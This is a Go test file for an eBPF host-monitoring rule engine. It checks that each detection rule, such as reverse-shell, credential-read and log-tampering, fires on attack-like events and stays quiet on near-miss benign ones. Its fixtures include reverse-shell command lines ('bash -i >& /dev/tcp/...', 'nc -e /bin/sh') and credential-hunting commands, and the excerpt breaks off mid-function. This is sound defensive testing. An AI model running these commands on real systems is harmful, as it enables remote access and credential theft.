@@ -1,0 +1,771 @@
+package rules_test
+
+import (
+	"net/netip"
+	"os"
+	"regexp"
+	"slices"
+	"strconv"
+	"testing"
+
+	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/policy"
+	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/record"
+	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/rules"
+	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/watch"
+)
+
+// open(2) flags, as the kernel reports them in File.OpenFlags.
+const (
+	oWronly = 0o1
+	oCreat  = 0o100
+	oTrunc  = 0o1000
+	oAppend = 0o2000
+)
+
+// proc is a process of uid (real and effective) started by parent.
+func proc(pid, uid uint32, exe string, args ...string) *record.Process {
+	p := &record.Process{PID: pid, TID: pid, PPID: 4000, UID: uid, GID: uid, EUID: uid, EGID: uid,
+		Exe: []byte(exe), Ancestry: []record.Ancestor{{PID: 4000, Exe: "/usr/bin/bash"}}}
+	for _, a := range args {
+		p.Args = append(p.Args, []byte(a))
+	}
+	return p
+}
+
+// child returns p started by parentExe (pid ppid).
+func child(p *record.Process, ppid uint32, parentExe string) *record.Process {
+	p.PPID = ppid
+	p.Ancestry = []record.Ancestor{{PID: ppid, Exe: parentExe}}
+	return p
+}
+
+func execRec(p *record.Process, edit ...func(*record.Exec)) record.Record {
+	e := &record.Exec{Filename: p.Exe}
+	for _, f := range edit {
+		f(e)
+	}
+	return record.Record{Event: "exec", Category: record.CatProcess, Process: p, Exec: e}
+}
+
+// openRec is a successful open of a watched path; op is read, write or
+// read-write.
+func openRec(p *record.Process, path, class, op string, flags uint32) record.Record {
+	return record.Record{Event: "open", Category: record.CatFile, Process: p,
+		File: &record.File{Path: []byte(path), Operation: op, OpenFlags: flags, FD: 3, Resolved: true,
+			Class: class, Watch: path, WatchOwner: -1}}
+}
+
+// inHome makes a file record's watch entry a home directory of owner.
+func inHome(r record.Record, owner int64) record.Record {
+	r.File.WatchOwner = owner
+	return r
+}
+
+// fileRec is an unlink, rename, truncate ... of a watched path.
+func fileRec(p *record.Process, event, path, class string) record.Record {
+	return record.Record{Event: event, Category: record.CatFile, Process: p,
+		File: &record.File{Path: []byte(path), Operation: event, FD: -1, Class: class, Watch: path, WatchOwner: -1}}
+}
+
+func chmodRec(p *record.Process, path string, mode uint32) record.Record {
+	r := fileRec(p, "chmod", path, "")
+	r.File.Mode, r.File.HasMode = mode, true
+	return r
+}
+
+func sysRec(p *record.Process, name string, target uint32, args ...record.Arg) record.Record {
+	return record.Record{Event: name, Category: record.CatSyscall, Process: p,
+		Syscall: &record.Syscall{Name: name, Args: args, TargetPID: target}}
+}
+
+func arg(k string, v any) record.Arg { return record.Arg{Key: k, Value: v} }
+
+func connectRec(p *record.Process, dst netip.Addr, port uint16) record.Record {
+	return record.Record{Event: "connect", Category: record.CatNetwork, Process: p,
+		Network: &record.Network{Family: "inet", Protocol: "tcp", SrcIP: localhost, SrcPort: 40000,
+			DstIP: dst, DstPort: port, Direction: "outbound", Sources: []string{"syscall"}}}
+}
+
+func connectUnixRec(p *record.Process, path string) record.Record {
+	return record.Record{Event: "connect", Category: record.CatNetwork, Process: p,
+		Network: &record.Network{Family: "unix", UnixPath: []byte(path), Direction: "outbound",
+			Sources: []string{"syscall"}}}
+}
+
+func listenRec(p *record.Process, port uint16) record.Record {
+	return record.Record{Event: "listen", Category: record.CatNetwork, Process: p,
+		Network: &record.Network{Family: "inet", Protocol: "tcp", SrcIP: anyAddr, SrcPort: port,
+			Direction: "listen", Backlog: 128, Sources: []string{"syscall"}}}
+}
+
+func failed(r record.Record, errno string) record.Record {
+	r.Error = errno
+	return r
+}
+
+func privRec(p *record.Process, priv record.Privilege) record.Record {
+	return record.Record{Event: "privilege", Category: record.CatPrivilege, Process: p, Priv: &priv}
+}
+
+var (
+	user1000 = record.Creds{UID: 1000, EUID: 1000, SUID: 1000, FSUID: 1000, GID: 1000, EGID: 1000, SGID: 1000, FSGID: 1000}
+	allRoot  = record.Creds{}
+)
+
+type ruleCase struct {
+	rule string // the rule the case is about
+	name string
+	rec  record.Record
+	want []string // every rule that must match, in Builtin order
+}
+
+func ruleCases() []ruleCase {
+	const (
+		alice = 1000
+		bob   = 1001
+	)
+	self := os.Getpid()
+	return []ruleCase{
+		// credential-read
+		{"credential-read", "cat reading /etc/shadow",
+			openRec(proc(100, 0, "/usr/bin/cat", "cat", "/etc/shadow"), "/etc/shadow", watch.ClassCredentials, "read", 0),
+			[]string{"credential-read"}},
+		{"credential-read", "sudo reading /etc/shadow is allowlisted",
+			openRec(proc(100, 1000, "/usr/bin/sudo", "sudo", "id"), "/etc/shadow", watch.ClassCredentials, "read", 0),
+			nil},
+		{"credential-read", "another user reading alice's private key",
+			inHome(openRec(proc(100, bob, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa", watch.ClassSSH, "read", 0), alice),
+			[]string{"credential-read"}},
+		{"credential-read", "root reading alice's private key",
+			inHome(openRec(proc(100, 0, "/usr/bin/cat"), "/home/alice/.ssh/id_ed25519", watch.ClassSSH, "read", 0), alice),
+			[]string{"credential-read"}},
+		{"credential-read", "alice reading her own private key",
+			inHome(openRec(proc(100, alice, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa", watch.ClassSSH, "read", 0), alice),
+			nil},
+		{"credential-read", "another user reading alice's public key",
+			inHome(openRec(proc(100, bob, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa.pub", watch.ClassSSH, "read", 0), alice),
+			nil},
+		{"credential-read", "another user reading alice's known_hosts",
+			inHome(openRec(proc(100, bob, "/usr/bin/cat"), "/home/alice/.ssh/known_hosts", watch.ClassSSH, "read", 0), alice),
+			nil},
+		{"credential-read", "failed read of /etc/shadow still counts",
+			failed(openRec(proc(100, 1000, "/usr/bin/cat"), "/etc/shadow", watch.ClassCredentials, "read", 0), "EACCES"),
+			[]string{"credential-read"}},
+
+		// persistence-write
+		{"persistence-write", "bash writing root's crontab",
+			openRec(proc(100, 0, "/usr/bin/bash"), "/var/spool/cron/crontabs/root", watch.ClassPersistence, "write", oWronly|oCreat|oTrunc),
+			[]string{"persistence-write"}},
+		{"persistence-write", "crontab writing root's crontab is allowlisted",
+			openRec(proc(100, 0, "/usr/bin/crontab", "crontab", "-e"), "/var/spool/cron/crontabs/root", watch.ClassPersistence, "write", oWronly|oCreat|oTrunc),
+			nil},
+		{"persistence-write", "dpkg writing a systemd unit is allowlisted",
+			openRec(proc(100, 0, "/usr/bin/dpkg"), "/etc/systemd/system/x.service", watch.ClassPersistence, "write", oWronly|oCreat),
+			nil},
+		{"persistence-write", "tee writing a systemd unit",
+			openRec(proc(100, 0, "/usr/bin/tee"), "/etc/systemd/system/x.service", watch.ClassPersistence, "write", oWronly|oCreat),
+			[]string{"persistence-write"}},
+		{"persistence-write", "reading a systemd unit",
+			openRec(proc(100, 0, "/usr/bin/cat"), "/etc/systemd/system/x.service", watch.ClassPersistence, "read", 0),
+			nil},
+		{"persistence-write", "a key appended to authorized_keys",
+			inHome(openRec(proc(100, bob, "/usr/bin/tee"), "/home/alice/.ssh/authorized_keys", watch.ClassSSH, "write", oWronly|oAppend), alice),
+			[]string{"persistence-write"}},
+		{"persistence-write", "a file renamed onto authorized_keys",
+			func() record.Record {
+				r := inHome(fileRec(proc(100, alice, "/usr/bin/mv"), "rename", "/home/alice/.ssh/k.tmp", watch.ClassSSH), alice)
+				r.File.TargetPath = []byte("/home/alice/.ssh/authorized_keys")
+				return r
+			}(),
+			[]string{"persistence-write"}},
+
+		// preload-injection
+		{"preload-injection", "/etc/ld.so.preload written",
+			openRec(proc(100, 0, "/usr/bin/tee"), "/etc/ld.so.preload", watch.ClassPreload, "write", oWronly|oCreat|oTrunc),
+			[]string{"preload-injection"}},
+		{"preload-injection", "/etc/ld.so.preload read",
+			openRec(proc(100, 0, "/usr/bin/cat"), "/etc/ld.so.preload", watch.ClassPreload, "read", 0),
+			nil},
+		{"preload-injection", "a program started with LD_PRELOAD",
+			execRec(proc(100, alice, "/usr/bin/ls", "ls"), func(e *record.Exec) { e.LDPreload = true }),
+			[]string{"preload-injection"}},
+		{"preload-injection", "a failed exec with LD_PRELOAD",
+			execRec(proc(100, alice, "/usr/bin/ls", "ls"), func(e *record.Exec) { e.LDPreload, e.Ret = true, -2 }),
+			nil},
+		{"preload-injection", "a dropped binary run with LD_PRELOAD: the highest severity wins",
+			execRec(proc(100, alice, "/tmp/x", "/tmp/x"), func(e *record.Exec) { e.LDPreload = true }),
+			[]string{"preload-injection", "exec-from-writable-dir"}},
+
+		// shell-from-service
+		{"shell-from-service", "bash started by sshd",
+			execRec(child(proc(100, alice, "/usr/bin/bash", "-bash"), 90, "/usr/sbin/sshd")),
+			nil},
+		{"shell-from-service", "bash started by nginx",
+			execRec(child(proc(100, 33, "/usr/bin/bash", "sh", "-c", "id"), 90, "/usr/sbin/nginx")),
+			[]string{"shell-from-service"}},
+		{"shell-from-service", "python started by php-fpm8.2",
+			execRec(child(proc(100, 33, "/usr/bin/python3", "python3"), 90, "/usr/sbin/php-fpm8.2")),
+			[]string{"shell-from-service"}},
+		{"shell-from-service", "a non-shell started by nginx",
+			execRec(child(proc(100, 33, "/usr/bin/gzip", "gzip"), 90, "/usr/sbin/nginx")),
+			nil},
+
+		// reverse-shell
+		{"reverse-shell", "a shell whose stdio are sockets",
+			execRec(proc(100, alice, "/usr/bin/bash", "bash"), func(e *record.Exec) { e.StdioSockets = []string{"stdin", "stdout", "stderr"} }),
+			[]string{"reverse-shell"}},
+		{"reverse-shell", "a shell with no stdio sockets and a plain command line",
+			execRec(proc(100, alice, "/usr/bin/bash", "bash", "-c", "ls -l /srv")),
+			nil},
+		{"reverse-shell", "a non-shell whose stdio is a socket (inetd style)",
+			execRec(proc(100, alice, "/usr/bin/cat", "cat"), func(e *record.Exec) { e.StdioSockets = []string{"stdin"} }),
+			nil},
+		{"reverse-shell", "bash -i redirected to /dev/tcp",
+			execRec(proc(100, alice, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
+			[]string{"reverse-shell"}},
+		{"reverse-shell", "nc -e /bin/sh",
+			execRec(proc(100, alice, "/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh")),
+			[]string{"reverse-shell"}},
+		{"reverse-shell", "nc listening on a port",
+			execRec(proc(100, alice, "/usr/bin/nc", "nc", "-l", "8080")),
+			nil},
+
+		// exec-from-writable-dir
+		{"exec-from-writable-dir", "a program from /usr/bin",
+			execRec(proc(100, alice, "/usr/bin/ls", "ls")),
+			nil},
+		{"exec-from-writable-dir", "a program from /tmp",
+			execRec(proc(100, alice, "/tmp/x", "/tmp/x")),
+			[]string{"exec-from-writable-dir"}},
+		{"exec-from-writable-dir", "a program from /dev/shm",
+			execRec(proc(100, alice, "/dev/shm/x", "x")),
+			[]string{"exec-from-writable-dir"}},
+		{"exec-from-writable-dir", "a program from /var/tmp",
+			execRec(proc(100, alice, "/var/tmp/x", "x")),
+			[]string{"exec-from-writable-dir"}},
+		{"exec-from-writable-dir", "a memfd",
+			execRec(proc(100, alice, "/memfd:x", "x"), func(e *record.Exec) { e.ExeDeleted = true }),
+			[]string{"exec-from-writable-dir"}},
+		{"exec-from-writable-dir", "a deleted binary",
+			execRec(proc(100, alice, "/usr/local/bin/tool", "tool"), func(e *record.Exec) { e.ExeDeleted = true }),
+			[]string{"exec-from-writable-dir"}},
+		{"exec-from-writable-dir", "a failed exec from /tmp",
+			execRec(proc(100, alice, "/usr/bin/bash", "bash"), func(e *record.Exec) { e.Filename, e.Ret = []byte("/tmp/x"), -13 }),
+			nil},
+
+		// privilege-escalation and privilege-gain
+		{"privilege-escalation", "root with no explanation",
+			privRec(proc(100, 0, "/usr/bin/python3"), record.Privilege{Means: "unexplained", Before: user1000, After: allRoot, Gained: []string{"uid 0"}, ExeUID: -1}),
+			[]string{"privilege-escalation"}},
+		{"privilege-escalation", "setuid(0) by a non-helper",
+			privRec(proc(100, 0, "/usr/bin/python3"), record.Privilege{Means: "syscall", Syscall: "setuid", Before: user1000, After: allRoot, Gained: []string{"uid 0"}, ExeUID: -1}),
+			[]string{"privilege-escalation"}},
+		{"privilege-escalation", "a set-uid binary in /tmp",
+			privRec(proc(100, 0, "/tmp/rootshell"), record.Privilege{Means: "exec", Before: user1000, After: allRoot, Gained: []string{"euid 0"}, ExeUID: 0, ExeMode: 0o104755}),
+			[]string{"privilege-escalation"}},
+		{"privilege-escalation", "sudo's set-uid exec",
+			privRec(proc(100, 0, "/usr/bin/sudo"), record.Privilege{Means: "exec", Before: user1000, After: allRoot, Gained: []string{"euid 0"}, ExeUID: 0, ExeMode: 0o104755}),
+			nil},
+		{"privilege-gain", "another root-owned set-uid binary in /usr/bin",
+			privRec(proc(100, 0, "/usr/bin/newuidmap"), record.Privilege{Means: "exec", Before: user1000, After: allRoot, Gained: []string{"euid 0"}, ExeUID: 0, ExeMode: 0o104755}),
+			[]string{"privilege-gain"}},
+		{"privilege-gain", "a user namespace's root mounting",
+			privRec(proc(100, alice, "/usr/bin/unshare"), record.Privilege{Means: "userns", Syscall: "mount", Before: user1000, After: user1000, ExeUID: -1}),
+			[]string{"privilege-gain"}},
+		{"privilege-gain", "setuid(0) by sudo",
+			privRec(proc(100, 0, "/usr/bin/sudo"), record.Privilege{Means: "syscall", Syscall: "setresuid", Before: user1000, After: allRoot, Gained: []string{"uid 0"}, ExeUID: -1}),
+			nil},
+
+		// setuid-bit-set
+		{"setuid-bit-set", "chmod 0755",
+			chmodRec(proc(100, alice, "/usr/bin/chmod", "chmod", "755", "x"), "/home/alice/x", 0o755),
+			nil},
+		{"setuid-bit-set", "chmod 04755",
+			chmodRec(proc(100, alice, "/usr/bin/chmod", "chmod", "4755", "x"), "/home/alice/x", 0o4755),
+			[]string{"setuid-bit-set"}},
+		{"setuid-bit-set", "chmod 02755",
+			chmodRec(proc(100, alice, "/usr/bin/chmod", "chmod", "2755", "x"), "/home/alice/x", 0o2755),
+			[]string{"setuid-bit-set"}},
+		{"setuid-bit-set", "dpkg installing a set-uid binary is allowlisted",
+			chmodRec(proc(100, 0, "/usr/bin/dpkg"), "/usr/bin/newuidmap", 0o4755),
+			nil},
+
+		// kernel-code-load
+		{"kernel-code-load", "bpf BPF_PROG_GET_NEXT_ID",
+			sysRec(proc(100, 0, "/usr/sbin/bpftool"), "bpf", 0, arg("cmd", "BPF_PROG_GET_NEXT_ID")),
+			nil},
+		{"kernel-code-load", "bpf BPF_PROG_LOAD",
+			sysRec(proc(100, 0, "/usr/local/bin/loader"), "bpf", 0, arg("cmd", "BPF_PROG_LOAD"), arg("prog_type", "kprobe")),
+			[]string{"kernel-code-load"}},
+		{"kernel-code-load", "finit_module",
+			sysRec(proc(100, 0, "/usr/local/bin/loader"), "finit_module", 0, arg("fd", int64(3))),
+			[]string{"kernel-code-load"}},
+		{"kernel-code-load", "kexec_file_load",
+			sysRec(proc(100, 0, "/usr/local/bin/loader"), "kexec_file_load", 0),
+			[]string{"kernel-code-load"}},
+		{"kernel-code-load", "modprobe's finit_module is allowlisted",
+			sysRec(proc(100, 0, "/usr/sbin/modprobe", "modprobe", "nf_tables"), "finit_module", 0, arg("fd", int64(3))),
+			nil},
+
+		// process-injection
+		{"process-injection", "ptrace PTRACE_TRACEME",
+			sysRec(proc(100, alice, "/usr/bin/python3"), "ptrace", 0, arg("request", "PTRACE_TRACEME"), arg("pid", int64(0))),
+			nil},
+		{"process-injection", "ptrace PTRACE_ATTACH on another process",
+			sysRec(proc(100, alice, "/usr/bin/python3"), "ptrace", 200, arg("request", "PTRACE_ATTACH"), arg("pid", int64(200))),
+			[]string{"process-injection"}},
+		{"process-injection", "ptrace PTRACE_ATTACH on itself",
+			sysRec(proc(100, alice, "/usr/bin/python3"), "ptrace", 100, arg("request", "PTRACE_ATTACH"), arg("pid", int64(100))),
+			nil},
+		{"process-injection", "gdb attaching is allowlisted",
+			sysRec(proc(100, alice, "/usr/bin/gdb"), "ptrace", 200, arg("request", "PTRACE_ATTACH"), arg("pid", int64(200))),
+			nil},
+		{"process-injection", "process_vm_writev into another process",
+			sysRec(proc(100, alice, "/usr/bin/python3"), "process_vm_writev", 200, arg("pid", int64(200))),
+			[]string{"process-injection"}},
+		{"process-injection", "process_vm_readv of another process",
+			sysRec(proc(100, alice, "/usr/bin/python3"), "process_vm_readv", 200, arg("pid", int64(200))),
+			nil},
+
+		// log-tampering
+		{"log-tampering", "/var/log/syslog opened for append",
+			openRec(proc(100, 104, "/usr/bin/logger"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oAppend),
+			nil},
+		{"log-tampering", "/var/log/syslog opened with O_TRUNC",
+			openRec(proc(100, 0, "/usr/bin/bash"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oTrunc),
+			[]string{"log-tampering"}},
+		{"log-tampering", "/var/log/syslog unlinked",
+			fileRec(proc(100, 0, "/usr/bin/rm", "rm", "/var/log/syslog"), "unlink", "/var/log/syslog", watch.ClassLogs),
+			[]string{"log-tampering"}},
+		{"log-tampering", "logrotate truncating is allowlisted",
+			openRec(proc(100, 0, "/usr/sbin/logrotate"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oTrunc),
+			nil},
+		{"log-tampering", "a shell history truncated",
+			inHome(fileRec(proc(100, alice, "/usr/bin/truncate"), "truncate", "/home/alice/.bash_history", watch.ClassHistory), alice),
+			[]string{"log-tampering"}},
+		{"log-tampering", "the kernel log cleared",
+			sysRec(proc(100, 0, "/usr/bin/dmesg", "dmesg", "-C"), "syslog", 0, arg("type", "SYSLOG_ACTION_CLEAR")),
+			[]string{"log-tampering"}},
+
+		// suspicious-outbound
+		{"suspicious-outbound", "curl connecting to 443",
+			connectRec(proc(100, alice, "/usr/bin/curl"), remote, 443),
+			nil},
+		{"suspicious-outbound", "curl connecting to 4444",
+			connectRec(proc(100, alice, "/usr/bin/curl"), remote, 4444),
+			[]string{"suspicious-outbound"}},
+		{"suspicious-outbound", "python3 connecting to 443",
+			connectRec(proc(100, alice, "/usr/bin/python3"), remote, 443),
+			[]string{"suspicious-outbound"}},
+		{"suspicious-outbound", "python3 accepting a connection",
+			func() record.Record {
+				r := connectRec(proc(100, alice, "/usr/bin/python3"), remote, 8000)
+				r.Event, r.Network.Direction = "accept", "inbound"
+				return r
+			}(),
+			nil},
+
+		// unexpected-listener
+		{"unexpected-listener", "a listener started by init",
+			listenRec(child(proc(100, 0, "/usr/bin/node"), 1, "/usr/lib/systemd/systemd"), 8080),
+			nil},
+		{"unexpected-listener", "nginx listening",
+			listenRec(child(proc(100, 0, "/usr/sbin/nginx"), 500, "/usr/sbin/nginx"), 80),
+			nil},
+		{"unexpected-listener", "a dropped binary listening",
+			listenRec(child(proc(100, alice, "/tmp/x"), 500, "/usr/bin/bash"), 8080),
+			[]string{"unexpected-listener"}},
+		{"unexpected-listener", "a failed listen",
+			failed(listenRec(child(proc(100, alice, "/tmp/x"), 500, "/usr/bin/bash"), 8080), "EADDRINUSE"),
+			nil},
+		{"unexpected-listener", "a service listening on a reverse-shell port",
+			listenRec(child(proc(100, 0, "/usr/sbin/nginx"), 1, "/usr/lib/systemd/systemd"), 4444),
+			[]string{"unexpected-listener"}},
+
+		// container-escape
+		{"container-escape", "a connect to the docker socket",
+			connectUnixRec(proc(100, alice, "/usr/bin/curl"), "/var/run/docker.sock"),
+			[]string{"container-escape"}},
+		{"container-escape", "a connect to another unix socket",
+			connectUnixRec(proc(100, alice, "/usr/bin/curl"), "/run/other.sock"),
+			nil},
+		{"container-escape", "a failed connect to the docker socket is still an attempt",
+			failed(connectUnixRec(proc(100, alice, "/usr/bin/curl"), "/run/docker.sock"), "EACCES"),
+			[]string{"container-escape"}},
+		// release_agent is matched by shape in the kernel; no class is assumed
+		{"container-escape", "a write to a cgroup release_agent",
+			openRec(proc(100, 0, "/usr/bin/bash"), "/sys/fs/cgroup/x/release_agent", "", "write", oWronly|oTrunc),
+			[]string{"container-escape"}},
+		{"container-escape", "a read of a cgroup release_agent",
+			openRec(proc(100, 0, "/usr/bin/cat"), "/sys/fs/cgroup/x/release_agent", "", "read", 0),
+			nil},
+		{"container-escape", "a write to core_pattern",
+			openRec(proc(100, 0, "/usr/bin/bash"), "/proc/sys/kernel/core_pattern", watch.ClassKernel, "write", oWronly|oTrunc),
+			[]string{"container-escape", "sensitive-config-modified"}},
+		{"container-escape", "setns",
+			sysRec(proc(100, 0, "/usr/bin/nsenter"), "setns", 0, arg("nstype", []string{"CLONE_NEWNS"})),
+			[]string{"container-escape"}},
+		{"container-escape", "a failed setns",
+			failed(sysRec(proc(100, alice, "/usr/bin/nsenter"), "setns", 0), "EPERM"),
+			nil},
+
+		// credential-hunting
+		{"credential-hunting", "cat ~/.aws/credentials",
+			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.aws/credentials")),
+			[]string{"credential-hunting"}},
+		{"credential-hunting", "cat /etc/hostname",
+			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/etc/hostname")),
+			nil},
+		{"credential-hunting", "find looking for private keys",
+			execRec(proc(100, alice, "/usr/bin/find", "find", "/", "-name", "id_rsa")),
+			[]string{"credential-hunting"}},
+		{"credential-hunting", "a private key named on a command line that is not an exec",
+			sysRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.ssh/id_rsa"), "ptrace", 0, arg("request", "PTRACE_TRACEME")),
+			nil},
+
+		// sensitive-config-modified
+		{"sensitive-config-modified", "vim writing /etc/passwd",
+			openRec(proc(100, 0, "/usr/bin/vim"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oTrunc),
+			[]string{"sensitive-config-modified"}},
+		{"sensitive-config-modified", "useradd writing /etc/passwd is allowlisted",
+			openRec(proc(100, 0, "/usr/sbin/useradd"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oTrunc),
+			nil},
+		{"sensitive-config-modified", "a PAM file read",
+			openRec(proc(100, 0, "/usr/bin/cat"), "/etc/pam.d/sshd", watch.ClassAuthConfig, "read", 0),
+			nil},
+		{"sensitive-config-modified", "a loader path added",
+			openRec(proc(100, 0, "/usr/bin/tee"), "/etc/ld.so.conf.d/x.conf", watch.ClassPreload, "write", oWronly|oCreat),
+			[]string{"sensitive-config-modified"}},
+
+		// process-memory-access
+		{"process-memory-access", "/proc/123/mem opened by pid 456",
+			openRec(proc(456, alice, "/usr/bin/python3"), "/proc/123/mem", watch.ClassProcMem, "read", 0),
+			[]string{"process-memory-access"}},
+		{"process-memory-access", "/proc/123/mem opened by pid 123",
+			openRec(proc(123, alice, "/usr/bin/python3"), "/proc/123/mem", watch.ClassProcMem, "read", 0),
+			nil},
+		{"process-memory-access", "/proc/123/task/124/mem opened by pid 123",
+			openRec(proc(123, alice, "/usr/bin/python3"), "/proc/123/task/124/mem", watch.ClassProcMem, "read-write", 2),
+			nil},
+
+		// kernel-tampering
+		{"kernel-tampering", "iopl",
+			sysRec(proc(100, 0, "/usr/local/bin/x"), "iopl", 0, arg("level", int64(3))),
+			[]string{"kernel-tampering"}},
+		{"kernel-tampering", "userfaultfd by euid 1000",
+			sysRec(proc(100, alice, "/usr/local/bin/x"), "userfaultfd", 0),
+			[]string{"kernel-tampering"}},
+		{"kernel-tampering", "userfaultfd by euid 0",
+			sysRec(proc(100, 0, "/usr/local/bin/x"), "userfaultfd", 0),
+			nil},
+		{"kernel-tampering", "chronyd setting the clock is allowlisted",
+			sysRec(proc(100, 0, "/usr/sbin/chronyd"), "clock_settime", 0),
+			nil},
+
+		// monitor-tampering (the engine's own pid stands for the monitor)
+		{"monitor-tampering", "kill aimed at the monitor",
+			sysRec(proc(100, 0, "/usr/bin/kill", "kill", "-9", strconv.Itoa(self)), "kill", 0, arg("pid", int64(self)), arg("sig", "SIGKILL")),
+			[]string{"monitor-tampering"}},
+		{"monitor-tampering", "ptrace attach to the monitor",
+			sysRec(proc(100, 0, "/usr/bin/python3"), "ptrace", uint32(self), arg("request", "PTRACE_ATTACH"), arg("pid", int64(self))),
+			[]string{"process-injection", "monitor-tampering"}},
+		{"monitor-tampering", "process_vm_readv of another process",
+			sysRec(proc(100, 0, "/usr/bin/python3"), "process_vm_readv", uint32(self)+1, arg("pid", int64(self)+1)),
+			nil},
+		{"monitor-tampering", "BPF links detached",
+			sysRec(proc(100, 0, "/usr/local/bin/x"), "bpf", 0, arg("cmd", "BPF_LINK_DETACH")),
+			[]string{"monitor-tampering"}},
+		{"monitor-tampering", "bpf listing programs",
+			sysRec(proc(100, 0, "/usr/local/bin/x"), "bpf", 0, arg("cmd", "BPF_PROG_GET_NEXT_ID")),
+			nil},
+
+		// watched-path-modified
+		{"watched-path-modified", "a custom watched path written",
+			openRec(proc(100, alice, "/usr/bin/vim"), "/srv/app/config.yml", watch.ClassCustom, "write", oWronly|oTrunc),
+			[]string{"watched-path-modified"}},
+		{"watched-path-modified", "a custom watched path read",
+			openRec(proc(100, alice, "/usr/bin/cat"), "/srv/app/config.yml", watch.ClassCustom, "read", 0),
+			nil},
+		{"watched-path-modified", "a custom watched path deleted",
+			fileRec(proc(100, alice, "/usr/bin/rm"), "unlink", "/srv/app/config.yml", watch.ClassCustom),
+			[]string{"watched-path-modified"}},
+	}
+}
+
+func builtin(t *testing.T, name string) rules.Def {
+	t.Helper()
+	for _, d := range rules.Builtin {
+		if d.Name == name {
+			return d
+		}
+	}
+	t.Fatalf("no built-in rule %q", name)
+	return rules.Def{}
+}
+
+func ruleNames(r *record.Record) []string {
+	var out []string
+	for _, m := range r.Rules {
+		out = append(out, m.Name)
+	}
+	return out
+}
+
+func TestEachRuleFiresAndItsNearestBenignCaseDoesNot(t *testing.T) {
+	e := rules.NewEngine(policy.Default(rules.Names()))
+	for _, tt := range ruleCases() {
+		t.Run(tt.rule+"/"+tt.name, func(t *testing.T) {
+			r := tt.rec
+			e.Evaluate(&r)
+			if got := ruleNames(&r); !slices.Equal(got, tt.want) {
+				t.Fatalf("rules = %q, want %q", got, tt.want)
+			}
+			wantSev := record.Info
+			for _, name := range tt.want {
+				wantSev = max(wantSev, builtin(t, name).Severity)
+			}
+			if r.Severity != wantSev {
+				t.Errorf("severity = %v, want %v", r.Severity, wantSev)
+			}
+			for _, m := range r.Rules {
+				d := builtin(t, m.Name)
+				if m.Severity != d.Severity || m.Description != d.Description || !slices.Equal(m.Mitre, d.Mitre) {
+					t.Errorf("rule %s = %+v, want the built-in severity %v, description and MITRE %q",
+						m.Name, m, d.Severity, d.Mitre)
+				}
+			}
+		})
+	}
+}
+
+func TestEveryRuleHasAFiringAndABenignCase(t *testing.T) {
+	fires, spares := map[string]bool{}, map[string]bool{}
+	for _, tt := range ruleCases() {
+		if slices.Contains(tt.want, tt.rule) {
+			fires[tt.rule] = true
+		} else {
+			spares[tt.rule] = true
+		}
+	}
+	for _, name := range rules.Names() {
+		if !fires[name] {
+			t.Errorf("rule %s: no case where it fires", name)
+		}
+		if !spares[name] {
+			t.Errorf("rule %s: no benign case where it stays quiet", name)
+		}
+	}
+}
+
+var mitreRE = regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)
+
+func TestBuiltinRulesAreNamedDescribedAndMapped(t *testing.T) {
+	seen := map[string]bool{}
+	for _, d := range rules.Builtin {
+		if seen[d.Name] {
+			t.Errorf("rule %s: defined twice", d.Name)
+		}
+		seen[d.Name] = true
+		if d.Description == "" || d.Match == nil {
+			t.Errorf("rule %s: no description or condition", d.Name)
+		}
+		if d.Name == "watched-path-modified" {
+			continue // the user's own paths: no technique implied
+		}
+		if len(d.Mitre) == 0 {
+			t.Errorf("rule %s: no MITRE ATT&CK technique", d.Name)
+		}
+		for _, id := range d.Mitre {
+			if !mitreRE.MatchString(id) {
+				t.Errorf("rule %s: MITRE id %q is not Txxxx or Txxxx.yyy", d.Name, id)
+			}
+		}
+	}
+	if !slices.Equal(rules.Names(), func() []string {
+		var out []string
+		for _, d := range rules.Builtin {
+			out = append(out, d.Name)
+		}
+		return out
+	}()) {
+		t.Errorf("Names() = %q, not the built-in rules in order", rules.Names())
+	}
+}
+
+func TestDefaultPolicyListsEveryRuleWithItsBuiltinSeverity(t *testing.T) {
+	p := policy.Default(rules.Names())
+	if len(p.Rules) != len(rules.Builtin) {
+		t.Errorf("default.yaml has %d rules, the engine %d", len(p.Rules), len(rules.Builtin))
+	}
+	for _, d := range rules.Builtin {
+		cfg := p.Rules[d.Name]
+		if cfg == nil {
+			t.Errorf("default.yaml does not list %s", d.Name)
+			continue
+		}
+		if !cfg.Enabled {
+			t.Errorf("default.yaml disables %s", d.Name)
+		}
+		if !cfg.HasSeverity || cfg.Severity != d.Severity {
+			t.Errorf("%s: default.yaml severity %v (set %v), Go %v", d.Name, cfg.Severity, cfg.HasSeverity, d.Severity)
+		}
+	}
+}
+
+func mustParse(t *testing.T, yaml string) *policy.Policy {
+	t.Helper()
+	p, err := policy.Parse("test.yaml", []byte(yaml), rules.Names())
+	if err != nil {
+		t.Fatalf("parse policy: %v", err)
+	}
+	return p
+}
+
+func shadowRead(uid uint32, exe, parent string) record.Record {
+	return openRec(child(proc(100, uid, exe), 90, parent), "/etc/shadow", watch.ClassCredentials, "read", 0)
+}
+
+func TestPolicyRaisingASeverityChangesTheRecordsSeverity(t *testing.T) {
+	e := rules.NewEngine(mustParse(t, "rules:\n  credential-read:\n    severity: critical\n"))
+	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	e.Evaluate(&r)
+	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-read"}) {
+		t.Fatalf("rules = %q, want credential-read", got)
+	}
+	if r.Severity != record.Critical || r.Rules[0].Severity != record.Critical {
